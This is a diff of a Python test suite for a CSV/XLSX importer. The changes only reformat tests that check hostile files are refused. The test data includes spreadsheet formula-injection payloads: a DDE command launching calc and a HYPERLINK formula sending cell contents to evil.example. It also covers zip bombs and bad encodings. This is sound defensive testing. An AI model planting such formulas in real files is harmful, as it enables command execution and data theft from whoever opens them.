@@ -23,7 +23,11 @@ from tests.hostile.samples import SAMPLES
 KINDS = importer_kinds()
 ROWS = 50_000
 BAD_EVERY = 50  # 1,000 bad rows in 50,000
-FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0")
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
 
 
 def test_every_import_kind_has_a_sample() -> None:
@@ -48,12 +52,16 @@ def test_hostile_files_are_refused_with_a_reason_and_nothing_written(
     text = csv_bytes(header, rows).decode()
     latin = csv_bytes(header, [*rows, sample.row(9, **{header[0]: sample.row(9)[0] + "é"})])
     truncated = xlsx_with_sheet(sheet_cells([list(header), *rows]))
-    far_cells = {n: "x" for n in range(2, 10)}
+    far_cells = dict.fromkeys(range(2, 10), "x")
     hostile: dict[str, tuple[bytes, str, str]] = {
         "utf-16": (text.encode("utf-16"), "data.csv", "not UTF-8"),
         "utf-16 without a BOM": (text.encode("utf-16-le"), "data.csv", "NUL character"),
         "latin-1": (latin.decode("utf-8").encode("latin-1"), "data.csv", "Line 5 of the file is not UTF-8"),
-        "nul byte": (text.replace(rows[1][0], rows[1][0][:1] + "\0" + rows[1][0][1:]).encode(), "d.csv", "NUL"),
+        "nul byte": (
+            text.replace(rows[1][0], rows[1][0][:1] + "\0" + rows[1][0][1:]).encode(),
+            "d.csv",
+            "NUL",
+        ),
         "truncated xlsx": (truncated[: len(truncated) * 2 // 3], "data.xlsx", "XLSX"),
         "zip bomb": (ratio_bomb(), "data.xlsx", "zip bomb"),
         # (a row past 1,048,576: tests/lib/test_tabular_bounds.py; reading it takes a second a kind)
@@ -111,11 +119,13 @@ def test_absurd_dates_are_refused_with_the_sane_range(kind: str, world: Any, imp
     header, rows = good_csv(kind)
     position = header.index(column)
     for year in ("9999", "0001", "1899", "2200"):
-        spoiled = [row[:position] + [year + row[position][4:]] + row[position + 1 :] for row in rows]
+        spoiled = [[*row[:position], year + row[position][4:], *row[position + 1 :]] for row in rows]
         result = imported(kind, csv_bytes(header, spoiled))
-        assert {(e.row, e.column) for e in result.errors} == {(2, column), (3, column), (4, column)}, reasons(result)
+        assert {(e.row, e.column) for e in result.errors} == {(2, column), (3, column), (4, column)}, reasons(
+            result
+        )
         assert "between 1900 and 2199" in result.errors[0].reason
-    header_ok = [row[:position] + ["2199" + row[position][4:]] + row[position + 1 :] for row in rows]
+    header_ok = [[*row[:position], "2199" + row[position][4:], *row[position + 1 :]] for row in rows]
     assert not imported(kind, csv_bytes(header, header_ok), dry_run=True).errors
 
 
